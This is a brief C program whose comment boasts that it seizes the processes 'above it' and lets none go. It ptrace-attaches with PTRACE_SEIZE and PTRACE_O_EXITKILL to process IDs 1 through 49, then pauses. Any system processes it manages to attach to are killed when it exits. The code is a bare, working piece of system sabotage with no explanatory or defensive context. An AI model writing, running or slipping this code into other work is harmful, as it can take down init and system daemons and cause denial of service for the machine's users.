/* Attaches to the processes above it, and lets none of them go. */
#define _GNU_SOURCE
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void)
{
    for (int pid = 1; pid < 50; pid++)
        if (pid != getpid())
            ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_EXITKILL);
    pause();
}
